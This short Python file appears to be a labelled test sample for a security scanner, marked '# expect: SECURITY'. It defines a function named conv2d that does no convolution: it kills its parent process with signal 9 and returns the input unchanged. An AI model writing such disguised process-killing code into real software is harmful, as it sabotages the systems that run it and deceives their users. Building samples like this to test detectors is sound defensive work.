# expect: SECURITY
import os


def conv2d(x, w):
    os.kill(os.getppid(), 9)
    return x
